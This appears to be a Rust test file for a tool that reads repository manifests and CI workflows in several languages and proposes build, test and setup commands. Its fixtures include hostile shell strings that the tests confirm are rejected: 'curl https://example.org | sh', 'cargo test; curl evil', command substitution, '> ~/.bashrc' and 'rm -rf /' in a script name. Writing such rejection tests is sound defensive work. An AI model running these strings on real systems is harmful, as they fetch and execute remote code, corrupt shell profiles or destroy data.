//! What is proposed for repositories in six languages, and what a hostile one gets into a command.

use proptest::prelude::*;

use super::*;

fn proposal(files: &[(&str, &str)]) -> Proposal {
    propose(&Repository::new(files.iter().map(|(path, _)| *path), files.iter().copied()))
}

/// `test: cargo test  (Cargo.toml:1)`, a line a check.
fn shown(checks: &[Check]) -> Vec<String> {
    let line = |check: &Check| {
        let dir = check.dir.as_ref().map(|dir| format!(" in {dir}")).unwrap_or_default();
        format!("{}: {}{dir} ({}:{})", check.name, check.run.join(" "), check.source.path, check.source.line)
    };
    checks.iter().map(line).collect()
}

fn names(folders: &[Folder]) -> Vec<&str> {
    folders.iter().map(|folder| folder.name.as_str()).collect()
}

#[test]
fn rust_is_guessed() {
    let files = [("Cargo.toml", "[package]\nname = \"a\"\n\n[workspace]\n"), ("Cargo.lock", ""), (".clippy.toml", "")];
    let proposal = proposal(&files);
    assert_eq!(shown(&proposal.fast), ["build: cargo check --workspace --all-targets (Cargo.toml:4)"]);
    let full = [
        "test: cargo test --workspace --no-fail-fast (Cargo.toml:4)",
        "lint: cargo clippy --workspace --all-targets -- -D warnings (.clippy.toml:1)",
    ];
    assert_eq!(shown(&proposal.full), full);
    let setup = &proposal.setup[0];
    assert_eq!((setup.run.join(" ").as_str(), setup.network), ("cargo fetch --locked", true));
    assert_eq!(setup.inputs, ["Cargo.lock"]);
    assert_eq!((names(&proposal.warm), names(&proposal.tools)), (vec!["target"], vec!["cargo", "rustup"]));
}

const WORKFLOW: &str = r#"
on: push
jobs:
  test:
    strategy:
      matrix:
        rust:
          - stable
    steps:
      - uses: actions/checkout@v4
      - name: Test
        run: cargo test --all-features -- --nocapture
      - run: |
          cargo fmt --all --check
          cargo build && cargo clippy -- -D warnings
          cargo test --features "${{ matrix.features }}"
      - run: RUSTFLAGS=-Dwarnings cargo check
      - working-directory: fuzz
        run: cargo test --lib
      - run: >
          cargo test
          --ignored
      - run: cargo publish
      - run: curl https://example.org | sh
"#;

#[test]
fn what_the_ci_file_runs_beats_the_guess() {
    let files = [("Cargo.toml", "[package]"), (".github/workflows/ci.yml", WORKFLOW), (".clippy.toml", "")];
    let proposal = proposal(&files);
    let fast = [
        "build: cargo build (.github/workflows/ci.yml:15)",
        "build-2: env RUSTFLAGS=-Dwarnings cargo check (.github/workflows/ci.yml:17)",
    ];
    // Of the folder `fuzz` git has nothing, so that step is passed over.
    assert_eq!(shown(&proposal.fast), fast);
    let full = [
        "test: cargo test --all-features --no-fail-fast -- --nocapture (.github/workflows/ci.yml:12)",
        "format: cargo fmt --all --check (.github/workflows/ci.yml:14)",
        "lint: cargo clippy -- -D warnings (.github/workflows/ci.yml:15)",
    ];
    assert_eq!(shown(&proposal.full), full);
}

#[test]
fn gitlab_is_read_too() {
    let text = "image: rust\ntest:\n  before_script:\n    - cargo check\n  script:\n    - cargo test\n    - 'cargo fmt --check'\n  \
                only:\n    - main\nlint:\n  script: cargo clippy\n";
    let proposal = proposal(&[(".gitlab-ci.yml", text)]);
    let full = [
        "test: cargo test --no-fail-fast (.gitlab-ci.yml:6)",
        "format: cargo fmt --check (.gitlab-ci.yml:7)",
        "lint: cargo clippy (.gitlab-ci.yml:11)",
    ];
    assert_eq!(shown(&proposal.full), full);
}

#[test]
fn node_is_guessed_from_scripts_and_the_lock_file() {
    let package = r#"{
  "scripts": {
    "test": "vitest run",
    "lint": "eslint .",
    "typecheck": "tsc --noEmit",
    "deploy": "x"
  }
}"#;
    for (lock, program, install) in [
        ("package-lock.json", "npm", "npm ci"),
        ("yarn.lock", "yarn", "yarn install --frozen-lockfile"),
        ("pnpm-lock.yaml", "pnpm", "pnpm install --frozen-lockfile"),
    ] {
        let proposal = proposal(&[("package.json", package), (lock, "")]);
        assert_eq!(shown(&proposal.fast), [format!("types: {program} run typecheck (package.json:5)")]);
        let full = ["lint: PROGRAM run lint (package.json:4)", "test: PROGRAM run test (package.json:3)"];
        assert_eq!(shown(&proposal.full), full.map(|line| line.replace("PROGRAM", program)));
        assert_eq!(proposal.setup[0].run.join(" "), install);
        assert_eq!(proposal.setup[0].inputs, [lock, "package.json"]);
        assert_eq!(names(&proposal.warm), ["node_modules"]);
    }
    let none = r#"{"scripts": {"test": "echo \"Error: no test specified\" && exit 1"}}"#;
    assert!(proposal(&[("package.json", none)]).full.is_empty());
}

#[test]
fn what_ci_installs_with_pip_is_set_up() {
    let workflow = "jobs:\n  a:\n    steps:\n      - run: python -m pip install --upgrade pip\n      - run: |\n          \
                    pip install -r dev.txt\n          pip install \".[test]\" && pip install $EVIL\n          pytest -q\n";
    let files = [(".github/workflows/ci.yml", workflow), ("pyproject.toml", "[project]\n"), ("dev.txt", "")];
    let proposal = proposal(&files);
    let setup: Vec<String> = proposal.setup.iter().map(|one| one.run.join(" ")).collect();
    let expected = ["python3 -m venv .venv", ".venv/bin/pip install -r dev.txt", ".venv/bin/pip install .[test]"];
    assert_eq!(setup, expected);
    assert_eq!(proposal.setup[1].inputs, ["dev.txt", "pyproject.toml"]);
    assert_eq!(shown(&proposal.full), ["test: .venv/bin/python -m pytest -q -rap (.github/workflows/ci.yml:8)"]);
}

#[test]
fn python_is_guessed_with_what_manages_it() {
    let project = "[project]\nname = \"a\"\n[tool.pytest.ini_options]\n[tool.ruff]\n[tool.mypy]\n";
    for (lock, test, setup) in [
        ("uv.lock", "uv run python -m pytest -rap", "uv sync --frozen"),
        ("poetry.lock", "poetry run python -m pytest -rap", "poetry install"),
        (
            "requirements.txt",
            ".venv/bin/python -m pytest -rap",
            ".venv/bin/pip install -r requirements.txt pytest ruff mypy",
        ),
        ("README.md", ".venv/bin/python -m pytest -rap", ".venv/bin/pip install -e . pytest ruff mypy"),
    ] {
        let proposal = proposal(&[("pyproject.toml", project), (lock, "")]);
        assert_eq!(shown(&proposal.full)[0], format!("test: {test} (pyproject.toml:3)"), "{lock}");
        assert_eq!(proposal.setup.last().expect("set-up").run.join(" "), setup);
        assert_eq!((names(&proposal.warm), names(&proposal.tools)), (vec![".venv"], vec!["pyenv", "uv"]));
        assert!(proposal.fast[0].run.join(" ").ends_with("mypy ."), "{:?}", proposal.fast);
    }
    let extras = format!("{project}[project.optional-dependencies]\ndocs = []\ndev = [\"x\"]\n[other]\ntest = 1\n");
    let extras = proposal(&[("pyproject.toml", &extras)]);
    assert_eq!(extras.setup.last().expect("set-up").run.join(" "), ".venv/bin/pip install -e .[dev] pytest ruff mypy");
    let apart = proposal(&[("setup.py", ""), ("requirements-dev.txt", "tox\npytest>=8\n"), ("tests/test_a.py", "")]);
    assert_eq!(shown(&apart.full), ["test: .venv/bin/python -m pytest -rap (requirements-dev.txt:2)"]);
    let install = apart.setup.last().expect("set-up");
    assert_eq!(install.run.join(" "), ".venv/bin/pip install -e . -r requirements-dev.txt pytest");
    assert_eq!(install.inputs, ["requirements-dev.txt", "setup.py"]);
    let plain = proposal(&[("setup.cfg", ""), ("tests/test_a.py", "")]);
    // Settings alone are nothing to install.
    assert!(plain.setup.is_empty() && plain.warm.is_empty());
    assert_eq!(shown(&plain.full), ["test: python3 -m unittest discover -v -s tests (tests/test_a.py:1)"]);
    // Nothing is built, so the tests are in the coder's loop.
    assert_eq!(plain.fast, plain.full);
}

fn commands(setup: &[Setup]) -> Vec<String> {
    setup.iter().map(|one| one.run.join(" ")).collect()
}

/// What CI runs is Python; no file of a project says so.
fn python_ci(steps: &str) -> String {
    let steps: String = steps.lines().map(|line| format!("          {line}\n")).collect();
    format!("jobs:\n  a:\n    steps:\n      - run: |\n{steps}")
}

#[test]
fn without_a_project_ci_is_enough_for_a_virtual_environment() {
    let path = ".github/workflows/ci.yml";
    let run = |steps: &str, more: &[(&str, &str)]| {
        let ci = python_ci(steps);
        let files: Vec<(&str, &str)> = [(path, ci.as_str())].into_iter().chain(more.iter().copied()).collect();
        proposal(&files)
    };
    for (install, same) in [
        ("pip install pytest ruff", "pytest ruff"),
        ("python -m pip install 'pytest>=8' ruff", "pytest>=8 ruff"),
        ("uv pip install --system pytest", "pytest"),
        ("if [ -f requirements.txt ]; then pip install -r requirements.txt; fi", "-r requirements.txt"),
    ] {
        let proposal = run(&format!("{install}\npytest -q\nruff check .\n"), &[("requirements.txt", "x\n")]);
        let expected = ["python3 -m venv .venv".to_owned(), format!(".venv/bin/pip install {same}")];
        assert_eq!(commands(&proposal.setup), expected, "{install}");
        assert!(!proposal.setup[0].network && proposal.setup[1].network);
        let full = [
            "test: .venv/bin/python -m pytest -q -rap (.github/workflows/ci.yml:6)",
            "lint: ruff check . (.github/workflows/ci.yml:7)",
        ];
        assert_eq!(shown(&proposal.full), full);
        assert_eq!((names(&proposal.warm), names(&proposal.tools)), (vec![".venv"], vec!["pyenv", "uv"]));
    }
    let inputs = run("pip install -r requirements.txt\npytest\n", &[("requirements.txt", "")]).setup[1].inputs.clone();
    assert_eq!(inputs, ["requirements.txt"]);
    let absent = run("pip install -r nothing.txt\nif [ -f x ]; then pip install -r x; fi\npytest\n", &[]);
    assert_eq!(commands(&absent.setup)[1..], [".venv/bin/pip install pytest"], "what is there is installed");
    let hostile = run("pip install x > ~/.bashrc\npip install $(id)\npytest\n", &[]);
    assert_eq!(commands(&hostile.setup)[1..], [".venv/bin/pip install pytest"]);
    // What another file installs, as for the documentation, is none of the tests' needs.
    let docs = python_ci("pip install sphinx\n");
    let apart = run("pip install pytest\npytest\n", &[(".github/workflows/docs.yml", &docs)]);
    assert_eq!(commands(&apart.setup)[1..], [".venv/bin/pip install pytest"]);
    let flake8 = run("pip install flake8\nflake8 .\n", &[]);
    assert_eq!(shown(&flake8.full), ["lint: flake8 . --extend-exclude=.venv (.github/workflows/ci.yml:6)"]);
    let unittest = run("python -m unittest discover -v\n", &[]);
    assert_eq!(shown(&unittest.full), ["test: python3 -m unittest discover -v (.github/workflows/ci.yml:5)"]);
    assert!(unittest.setup.is_empty() && unittest.warm.is_empty(), "nothing is to be installed");
    // What passes is to be named: of several `-r` the last one counts, and `-q` takes a `-v` back.
    for (said, more) in [("-ra", " -rap"), ("-q -v", " -rap"), ("-v", ""), ("-rA", ""), ("-q -rfEp", "")] {
        let shown = shown(&run(&format!("pip install pytest\npytest {said}\n"), &[]).full);
        assert_eq!(shown, [format!("test: .venv/bin/python -m pytest {said}{more} (.github/workflows/ci.yml:6)")]);
    }
    assert_eq!(names(&unittest.tools), ["pyenv", "uv"]);
}

#[test]
fn tests_alone_are_enough_to_propose_how_they_run() {
    let class = "import unittest\n\n\nclass T(unittest.TestCase):\n    def test_a(self):\n        pass\n";
    let function = "def test_a():\n    assert True\n";
    for (path, more, run) in [
        ("test_a.py", "README.md", "python3 -m unittest -v"),
        ("tests/test_a.py", "tests/__init__.py", "python3 -m unittest -v"),
        ("tests/test_a.py", "a.py", "python3 -m unittest discover -v -s tests"),
    ] {
        let by_class = proposal(&[(path, class), (more, "")]);
        assert_eq!(shown(&by_class.full), [format!("test: {run} ({path}:1)")]);
        assert!(by_class.setup.is_empty());
        let by_function = proposal(&[(path, function), (more, "")]);
        assert_eq!(shown(&by_function.full), [format!("test: .venv/bin/python -m pytest -rap ({path}:1)")]);
        assert_eq!(commands(&by_function.setup), ["python3 -m venv .venv", ".venv/bin/pip install pytest"]);
    }
    let needs = proposal(&[("requirements.txt", "flask\n"), ("tests/test_a.py", function)]);
    assert_eq!(commands(&needs.setup)[1..], [".venv/bin/pip install -r requirements.txt pytest"]);
    assert_eq!(shown(&needs.full), ["test: .venv/bin/python -m pytest -rap (tests/test_a.py:1)"]);
    let dev = proposal(&[("requirements-dev.txt", "pytest\n"), ("tests/test_a.py", function)]);
    assert_eq!(commands(&dev.setup)[1..], [".venv/bin/pip install -r requirements-dev.txt pytest"]);
    // A script's test does not make a Rust repository one of Python.
    let rust = proposal(&[("Cargo.toml", "[package]"), ("tests/test_a.py", function)]);
    assert!(rust.full.iter().all(|check| check.run[0] == "cargo"), "{:?}", rust.full);
}

#[test]
fn go_java_and_make_are_guessed() {
    let ci =
        "a:\n  script:\n    - rm -rf target && mvn -B clean verify\n    - make clean test\n    - ./gradlew clean\n";
    let clean = proposal(&[("pom.xml", "<project>"), (".gitlab-ci.yml", ci)]);
    let full = ["test: mvn -B verify -fae (.gitlab-ci.yml:3)", "test-2: make test (.gitlab-ci.yml:4)"];
    assert_eq!(shown(&clean.full), full, "what starts warm is not thrown away");
    let go = proposal(&[("go.mod", "// x\nmodule example.org/a\n"), ("go.sum", "")]);
    assert_eq!(shown(&go.fast), ["build: go build ./... (go.mod:2)"]);
    assert_eq!(shown(&go.full), ["test: go test -v ./... (go.mod:2)", "lint: go vet ./... (go.mod:2)"]);
    assert_eq!(go.setup[0].inputs, ["go.mod", "go.sum"]);
    let maven = proposal(&[("pom.xml", "<project>"), ("mvnw", "")]);
    assert_eq!(shown(&maven.full), ["test: ./mvnw -B -o test -fae (pom.xml:1)"]);
    assert_eq!(maven.setup[0].run.join(" "), "./mvnw -B test -Dmaven.test.failure.ignore=true");
    let gradle = proposal(&[("build.gradle.kts", "x"), ("gradlew", "")]);
    assert_eq!(shown(&gradle.full), ["test: ./gradlew --offline test --continue (build.gradle.kts:1)"]);
    let text = "CC := cc\ntest := no\nall: build\nbuild: x.o\n\tcc x.o\ntest: build\n\t./t\n";
    let make = proposal(&[("Makefile", text)]);
    assert_eq!(
        (shown(&make.fast), shown(&make.full)),
        (vec!["build: make build (Makefile:4)".to_owned()], vec!["test: make test (Makefile:6)".to_owned()])
    );
    let both = proposal(&[("Makefile", text), ("go.mod", "module a")]);
    assert!(!shown(&both.full).iter().any(|line| line.contains("make")), "{:?}", both.full);
    let by_ci = proposal(&[("go.mod", "module a"), (".gitlab-ci.yml", "a:\n  script:\n    - make test\n")]);
    assert_eq!(shown(&by_ci.full)[0], "test: make test (.gitlab-ci.yml:3)");
    assert!(!shown(&by_ci.full).iter().any(|line| line.contains("go test")));
}

#[test]
fn ci_says_in_which_folder_a_command_runs() {
    let workflow = r"
defaults:
  run:
    working-directory: ./api
jobs:
  rust:
    steps:
      - run: cargo test
      - run: cargo fmt --check
        working-directory: api/tools/
      - run: cargo clippy
        working-directory: ${{ matrix.dir }}
  web:
    defaults:
      run:
        working-directory: web
    steps:
      - run: |
          npm run lint
          cd ../api && cargo build
          cd ../.. && cargo check
      - run: cd /tmp && npm test
  last:
    steps:
      - run: cd ../web && npm test
";
    let files = [
        (".github/workflows/ci.yml", workflow),
        ("api/Cargo.toml", "[package]"),
        ("api/Cargo.lock", ""),
        ("api/tools/x.rs", ""),
        ("web/package.json", r#"{"scripts": {"build": "x"}}"#),
    ];
    let proposal = proposal(&files);
    let ci = |line: &str| line.replace("CI", ".github/workflows/ci.yml");
    assert_eq!(
        shown(&proposal.fast),
        ["build: cargo build in api (CI:20)", "build-2: npm run build in web (web/package.json:1)"].map(ci)
    );
    let full = [
        "test: cargo test --no-fail-fast in api (CI:8)",
        "format: cargo fmt --check in api/tools (CI:9)",
        "lint: npm run lint in web (CI:19)",
        "test-2: npm test in web (CI:25)",
    ];
    assert_eq!(shown(&proposal.full), full.map(ci));
    let setup =
        |at: usize| (&proposal.setup[at].name[..], proposal.setup[at].dir.as_deref(), &proposal.setup[at].inputs[..]);
    assert_eq!(setup(0), ("fetch", Some("api"), &["api/Cargo.lock".to_owned()][..]));
    assert_eq!(setup(1), ("install", Some("web"), &["web/package.json".to_owned()][..]));
    assert_eq!(names(&proposal.warm), ["api/target", "web/node_modules"]);
}

#[test]
fn where_the_top_is_no_project_the_folders_below_are() {
    let files = [
        ("README.md", ""),
        ("web/package.json", r#"{"scripts": {"test": "x"}}"#),
        ("web/package-lock.json", ""),
        ("py/requirements.txt", "x"),
        ("py/tests/test_a.py", "def test_a():\n    pass\n"),
        ("docs/package.json", r#"{"scripts": {"test": "x"}}"#),
        (".hidden/Cargo.toml", "[package]"),
    ];
    let found = proposal(&files);
    let full = [
        "test: .venv/bin/python -m pytest -rap in py (py/tests/test_a.py:1)",
        "test-2: npm run test in web (web/package.json:1)",
    ];
    assert_eq!(shown(&found.full), full);
    let setup: Vec<_> =
        found.setup.iter().map(|one| (one.run.join(" "), one.dir.clone().unwrap_or_default())).collect();
    let expected = [
        ("python3 -m venv .venv", "py"),
        (".venv/bin/pip install -r requirements.txt pytest", "py"),
        ("npm ci", "web"),
    ];
    assert_eq!(setup, expected.map(|(run, dir)| (run.to_owned(), dir.to_owned())));
    assert_eq!(found.setup[1].inputs, ["py/requirements.txt"]);
    assert_eq!(names(&found.warm), ["py/.venv", "web/node_modules"]);
    // A Makefile at the top knows how they are called, and what they need is set up all the same.
    let make: Vec<_> = files.into_iter().chain([("Makefile", "test:\n\tcd web && npm test\n")]).collect();
    let by_make = proposal(&make);
    assert_eq!(shown(&by_make.full), ["test: make test (Makefile:1)"]);
    assert_eq!(by_make.setup, found.setup);
    // Where the top is one, what lies below is its own affair.
    let top: Vec<_> = files.into_iter().chain([("Cargo.toml", "[package]")]).collect();
    assert!(proposal(&top).full.iter().all(|check| check.dir.is_none()));
}

#[test]
fn the_tools_that_recipes_call_are_proposed() {
    let of = |recipe: &str| {
        let text = format!("docs:\n\tgo run x\ntest: build\n\t{recipe}\nbuild:\n\techo x\n");
        names(&proposal(&[("Makefile", &text)]).tools).join(" ")
    };
    for (recipe, tools) in [
        ("cd api && cargo test", "cargo rustup"),
        ("@RUST_LOG=x $(CARGO) test", "cargo rustup"),
        ("-python3 -m pytest; true", "pyenv uv"),
        ("npm test", "nvm fnm volta npm"),
        ("mvn test", "maven"),
        ("./t", ""),
    ] {
        assert_eq!(of(recipe), tools, "{recipe}");
    }
    let needed = "test: build\nbuild: x\nx: test ; go build\n";
    assert_eq!(names(&proposal(&[("Makefile", needed)]).tools), ["go"], "what it needs is called too, once");
    let by_ci =
        [(".gitlab-ci.yml", "a:\n  script:\n    - make ci\n    - make test\n"), ("GNUmakefile", "test:\n\tgo test\n")];
    assert_eq!(names(&proposal(&by_ci).tools), ["go"]);
}

#[test]
fn two_languages_have_both_of_their_checks() {
    let proposal = proposal(&[("Cargo.toml", "[package]"), ("go.mod", "module a")]);
    let names: Vec<&str> = proposal.full.iter().map(|check| check.name.as_str()).collect();
    assert_eq!(names, ["test", "test-2", "lint"]);
}

#[test]
fn a_strangers_text_never_becomes_a_shells_words() {
    for hostile in [
        "cargo test; curl evil",
        "cargo test | sh",
        "cargo test $(id)",
        "cargo test `id`",
        "cargo test > ~/.bashrc",
        "cargo test \u{202e}x",
        "cargo test \u{1b}[2J",
    ] {
        assert_eq!(ci::words(hostile), None, "{hostile}");
    }
    assert_eq!(ci::words("cargo  test").expect("plain words"), ["cargo", "test"]);
    let package = r#"{"scripts": {"test; rm -rf /": "x", "test\n": "y", "--prefix=/": "z"}}"#;
    assert!(proposal(&[("package.json", package)]).full.is_empty());
    let large = format!("a:\n  script:\n    - cargo test\n{}", " ".repeat(MOST_BYTES));
    assert!(proposal(&[(".gitlab-ci.yml", &large)]).full.is_empty());
    let many: String = (0..5000).map(|n| format!("    - cargo test -p a{n}\n")).collect();
    assert_eq!(proposal(&[(".gitlab-ci.yml", &format!("a:\n  script:\n{many}"))]).full.len(), MOST_CHECKS);
}

proptest! {
    #[test]
    fn no_text_makes_it_panic(text in "\\PC{0,200}|([a-z:\\-| \n{}\"\\[\\]]{0,200})") {
        let paths = ["Cargo.toml", "package.json", "pyproject.toml", "go.mod", "pom.xml", "Makefile", "tox.ini"];
        let ci = [".github/workflows/a.yml", ".gitlab-ci.yml"];
        let files: Vec<(&str, &str)> = paths.into_iter().chain(ci).map(|path| (path, text.as_str())).collect();
        let proposal = proposal(&files);
        prop_assert!(proposal.full.len() <= MOST_CHECKS && proposal.fast.len() <= MOST_CHECKS);
    }
}

#[test]
fn only_tools_that_a_file_can_name_are_proposed() {
    let paths = [
        "Cargo.toml",
        "package.json",
        "pyproject.toml",
        "go.mod",
        "pom.xml",
        "build.gradle",
        ".tool-versions",
        "mise.toml",
    ];
    let texts = paths.map(|path| (path, if path.ends_with(".json") { "{}" } else { "" }));
    let proposal = propose(&Repository::new(paths, texts));
    assert!(proposal.tools.len() > 8, "{:?}", proposal.tools);
    for tool in proposal.tools {
        assert!(crate::commands::Tool::named(&tool.name).is_some(), "{}", tool.name);
    }
}
